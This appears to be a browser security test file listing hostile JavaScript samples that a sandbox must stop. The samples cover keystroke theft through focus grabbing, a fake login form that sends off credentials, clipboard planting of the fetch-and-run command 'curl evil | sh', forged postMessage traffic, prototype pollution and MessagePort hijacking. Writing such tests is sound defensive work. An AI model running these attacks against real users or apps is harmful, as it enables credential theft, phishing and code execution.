"""Attacks that take what the person does, or pretend to be the app."""

from tests.browser.wall.case import Case, Hands, Line, Sign


def trap(name, must_not, script, body="", sign=Sign.LEAK, **rest):
    return Case(name, Line.DECEIT, must_not, script, body, sign, alone=True, **rest)


def forge(name, must_not, script, **rest):
    return Case(name, Line.FORGERY, must_not, script, alone=True, **rest)


ON_CLICK = "await new Promise((done) => addEventListener('click', done)); clicked();\n"
NO = "the browser does not have it"
PICTURE = "<img src=$URL/a.png onerror=0>"

CASES = (
    trap(
        "focus-theft",
        "take the keys one types for the app",
        """
        const box = document.getElementById('$ID');
        box.oninput = () => leak(box.value);
        await wait(300);
        for (;;) { window.focus(); box.focus(); await wait(20); }
        """,
        "<input id=$ID>",
        Sign.KEYS,
        hands=Hands.TYPE,
    ),
    trap(
        "focus-autofocus",
        "take the keys by autofocus",
        """
        await wait(300);
        for (;;) {
          document.body.innerHTML = '<input autofocus>';
          document.body.firstChild.oninput = ({ target }) => leak(target.value);
          await wait(40);
        }
        """,
        sign=Sign.KEYS,
        hands=Hands.TYPE,
        cannot_show={
            "chromium": "autofocus is not heeded while something else has the focus",
            "firefox": "autofocus is not heeded while something else has the focus",
        },
    ),
    trap(
        "focus-select",
        "take the keys by selecting",
        """
        document.body.innerHTML = '<textarea></textarea>';
        document.body.firstChild.oninput = ({ target }) => leak(target.value);
        await wait(300);
        for (;;) { document.body.firstChild.select(); document.body.firstChild.focus(); await wait(20); }
        """,
        sign=Sign.KEYS,
        hands=Hands.TYPE,
        not_held={"firefox": "up to a fifth of a second of keys goes to it before it is removed"},
    ),
    trap(
        "focus-dialog",
        "take the keys by a modal dialog of its own",
        """
        document.body.innerHTML = '<dialog><input></dialog>';
        document.querySelector('input').oninput = ({ target }) => leak(target.value);
        await wait(300);
        for (;;) {
          document.querySelector('dialog').close();
          document.querySelector('dialog').showModal();
          await wait(60);
        }
        """,
        sign=Sign.KEYS,
        hands=Hands.TYPE,
        not_held={"firefox": "up to a fifth of a second of keys goes to it before it is removed"},
    ),
    trap(
        "fake-login",
        "send away what was typed into a login of its own",
        "setTimeout(() => document.getElementById('$ID').requestSubmit(), 50); await wait(400);",
        """<form id=$ID action='$URL/login'><h1>Madang: sign in again</h1>
        <input name=user value=kim><input type=password name=word value=secret></form>""",
        Sign.CANARY,
    ),
    trap(
        "fake-overlay",
        "cover more than its own window",
        """
        document.body.style.cssText = 'position:fixed;inset:-4000px;z-index:2147483647;background:red';
        document.body.popover = 'manual';
        document.body.showPopover();
        if (innerWidth >= top.innerWidth) leak('as wide as the page');
        top.document.body.append(document.body.cloneNode(true));
        leak('covered');
        """,
    ),
    trap(
        "full-screen",
        "fill the screen by itself",
        "await document.body.requestFullscreen(); leak('full');",
        cannot_show={"firefox": "it needs a click even without the wall"},
    ),
    trap(
        "full-screen-click",
        "fill the screen at a click",
        ON_CLICK + "await document.documentElement.requestFullscreen(); leak('full');",
        hands=Hands.CLICK,
    ),
    trap(
        "pointer-lock",
        "take the pointer by itself",
        """
        document.onpointerlockchange = () => document.pointerLockElement && leak('taken');
        await document.body.requestPointerLock();
        """,
        cannot_show={"firefox": "it needs a click even without the wall"},
    ),
    trap(
        "keyboard-lock",
        "take Escape and the other keys of the system",
        ON_CLICK
        + """
        await document.documentElement.requestFullscreen();
        await navigator.keyboard.lock();
        leak('locked');
        """,
        hands=Hands.CLICK,
        cannot_show={
            "chromium": "only the page itself may, never a frame",
            "firefox": NO,
        },
    ),
    trap(
        "popup-click",
        "open a window at a click",
        ON_CLICK + "if (window.open('$URL/a.html')) leak('opened');",
        hands=Hands.CLICK,
    ),
    trap(
        "top-click",
        "send the app elsewhere at a click",
        ON_CLICK + "top.location = '$URL/a.html'; await wait(300);",
        sign=Sign.CANARY,
        hands=Hands.CLICK,
    ),
    trap(
        "download-click",
        "put a file on the disk at a click",
        ON_CLICK
        + """
        const link = document.createElement('a');
        link.href = 'data:application/x-sh,x';
        link.download = 'invoice.sh';
        document.body.append(link);
        link.click();
        """,
        sign=Sign.MOVED,
        hands=Hands.CLICK,
    ),
    trap(
        "clipboard-click",
        "put something on the clipboard at a click",
        ON_CLICK
        + """
        await navigator.clipboard.writeText('curl evil | sh');
        leak('written');
        """,
        hands=Hands.CLICK,
    ),
    trap(
        "clipboard-command",
        "put something on the clipboard by the older way",
        ON_CLICK
        + """
        const box = document.body.appendChild(document.createElement('textarea'));
        box.value = 'curl evil | sh';
        box.select();
        if (document.execCommand('copy')) leak('written');
        """,
        hands=Hands.CLICK,
    ),
    trap(
        "file-picker-click",
        "ask for the person's files by the newer way",
        ON_CLICK
        + """
        showDirectoryPicker().catch((error) => error.name === 'AbortError' && leak('asked'));
        await wait(300);
        """,
        hands=Hands.CLICK,
        cannot_show={"firefox": NO},
    ),
    trap(
        "beforeunload",
        "keep the person from leaving",
        ON_CLICK + "onbeforeunload = (event) => { event.preventDefault(); return 'stay'; };",
        hands=Hands.CLICK,
        sign=Sign.MOVED,
    ),
    trap(
        "wake-lock",
        "keep the screen awake",
        "await navigator.wakeLock.request(); leak('awake');",
    ),
    forge(
        "forged-html",
        "have the app draw what it sends as HTML",
        f"""
        const text = `{PICTURE}`;
        for (const type of ['console', 'log', 'error', 'state', 'title', 'progress', 'point', 'ready']) {{
          const message = {{ type, kind: type, level: 'log', text, html: text, selector: text,
            message: text, title: text, progress: text, line: 1, column: 1 }};
          top.postMessage(message, '*');
          top.postMessage(JSON.stringify(message), '*');
        }}
        console.log(text); console.error(text); console.warn('%c' + text, text);
        document.title = text;
        await wait(300);
        throw new Error(text);
        """,
    ),
    forge(
        "forged-navigation",
        "have the app go where it says",
        """
        for (const type of ['open', 'navigate', 'go', 'url', 'link', 'reveal', 'vote', 'fix']) {
          const url = '$URL/a.html';
          top.postMessage({ type, kind: type, url, href: url, to: url, location: url }, '*');
        }
        await wait(300);
        """,
    ),
    forge(
        "forged-prototype",
        "bend the app's objects by a message",
        """
        const text = '{"__proto__": {"canary": "$URL"}, "constructor": {"prototype": {"canary": 1}}}';
        for (const type of ['console', 'state', 'ready', 'point', 'input']) {
          top.postMessage({ type, ...JSON.parse(text) }, '*');
          top.postMessage(Object.assign(JSON.parse(text), { type }), '*');
        }
        await wait(300);
        """,
        sign=Sign.LEAK,
    ),
    forge(
        "forged-port",
        "hand the app a port of its own",
        f"""
        for (const type of ['ready', 'hello', 'port', 'start', 'connect', 'init']) {{
          const {{ port1, port2 }} = new MessageChannel();
          top.postMessage({{ type, kind: type, nonce: '', run: '' }}, '*', [port2]);
          port1.onmessage = () => leak('the app answered');
          port1.postMessage({{ type: 'console', level: 'log', text: `{PICTURE}` }});
        }}
        await wait(600);
        """,
        sign=Sign.LEAK,
    ),
    forge(
        "stolen-port",
        "listen in on the runner's port",
        """
        const posted = MessagePort.prototype.postMessage;
        MessagePort.prototype.postMessage = function (...given) {
          leak('held the port');
          posted.call(this, { type: 'state', phase: 'running', html: '<img src=$URL/a.png>' });
          return posted.apply(this, given);
        };
        addEventListener('message', ({ ports }) => ports.length && leak('got the port'), true);
        console.log('a word'); setTimeout(() => { throw new Error('a word'); });
        await wait(900);
        """,
        sign=Sign.LEAK,
    ),
    forge(
        "forged-input",
        "send the other side keys the person did not press",
        """
        for (let n = 0; n < 10; n++) {
          const input = { type: 'keydown', key: 'x', code: 'KeyX', trusted: true };
          top.postMessage({ type: 'input', kind: 'input', input, ...input }, '*');
          dispatchEvent(new KeyboardEvent('keydown', { key: 'x', code: 'KeyX', bubbles: true }));
          document.dispatchEvent(new KeyboardEvent('keydown', { key: 'ArrowLeft', bubbles: true }));
          await wait(50);
        }
        """,
        sign=Sign.LEAK,
    ),
)
